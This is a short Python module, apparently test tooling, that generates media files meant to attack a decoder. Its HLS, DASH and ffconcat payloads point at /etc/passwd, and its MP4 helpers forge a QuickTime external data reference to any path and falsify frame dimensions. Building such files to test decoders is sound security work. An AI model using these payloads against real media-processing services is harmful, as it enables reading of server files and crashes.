"""Files that attack a decoder, made by code."""

import struct
from pathlib import Path

HLS = b"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
DASH = b'<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>file:///etc/passwd</BaseURL></Period></MPD>'
CONCAT = b"ffconcat version 1.0\nfile '/etc/passwd'\n"
SDP = b"v=0\no=- 0 0 IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n"


def atom(name: bytes, content: bytes) -> bytes:
    """An MP4 atom."""
    return struct.pack(">I4s", 8 + len(content), name) + content


def swap(data: bytes, name: bytes, make) -> bytes:
    """The MP4 `data` with the first atom of this name replaced by `make(content)`, sizes of its parents mended."""
    at = data.index(name) - 4
    old = struct.unpack(">I", data[at : at + 4])[0]
    new = make(data[at + 8 : at + old])
    mended = bytearray(data[:at] + new + data[at + old :])
    for parent in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
        start = data.index(parent) - 4
        size = struct.unpack(">I", data[start : start + 4])[0]
        if start < at < start + size:
            mended[start : start + 4] = struct.pack(">I", size + len(new) - old)
    return bytes(mended)


def with_external_track(clip: bytes, target: Path) -> bytes:
    """The clip, its pictures said to lie in another file (a QuickTime data reference by path)."""
    path = str(target).encode()
    alias = bytearray(150)
    alias[8:10] = struct.pack(">H", 2)
    alias += struct.pack(">hH", 2, len(path)) + path + (b"\0" if len(path) % 2 else b"")
    alias += struct.pack(">hH", 18, len(path)) + path + (b"\0" if len(path) % 2 else b"")
    alias += struct.pack(">hH", -1, 0)
    entry = atom(b"alis", b"\0\0\0\0" + bytes(alias))
    return swap(clip, b"dref", lambda _: atom(b"dref", struct.pack(">II", 0, 1) + entry))


def with_dimensions(clip: bytes, width: int, height: int) -> bytes:
    """The clip, its sample entry said to have these dimensions."""
    at = clip.index(b"avc1") + 4 + 24
    return clip[:at] + struct.pack(">HH", width, height) + clip[at + 4 :]
